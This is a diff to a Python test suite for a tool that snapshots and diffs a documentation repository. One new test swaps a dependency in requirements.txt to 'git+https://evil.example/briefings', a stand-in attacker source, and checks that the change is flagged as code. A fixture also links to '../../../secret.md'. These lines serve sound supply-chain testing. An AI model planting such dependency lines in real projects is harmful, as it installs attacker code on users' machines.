@@ -232,8 +232,25 @@ def test_pages_that_are_links(desk: Path) -> None:
     told = {"a.md": b"# A\n", "in.md": b"# A\n", "out.md": b"../../../secret.md"}
     assert snapshot(desk, "HEAD").files("docs") == told
     assert snapshot(desk, None).files("docs") == told
+    (desk / "vendor").symlink_to("docs")
+    commit(desk)
+    assert snapshot(desk, "HEAD").files("vendor") == told
+    assert snapshot(desk, None).files("vendor") == told
     (desk / "away").symlink_to(desk.parents[1])
     assert snapshot(desk, None).files("away") == {}
+
+
+def test_what_a_desk_installs(desk: Path) -> None:
+    put(desk, "requirements.txt", "./vendor/briefings-1.whl\n")
+    put(desk, "vendor/briefings-1.whl", "1")
+    commit(desk)
+    put(desk, "requirements.txt", "git+https://evil.example/briefings\n")
+    put(desk, "vendor/briefings-1.whl", "2")
+    told = run(desk, "diff", "HEAD").output
+    for path in ("requirements.txt", "vendor/briefings-1.whl"):
+        assert f"- **Code** · `{path}`" in told
+    commit(desk)
+    assert run(desk, "diff", "HEAD~1", "HEAD").output == told
 
 
 def test_the_site_around_the_desk(desk: Path) -> None:
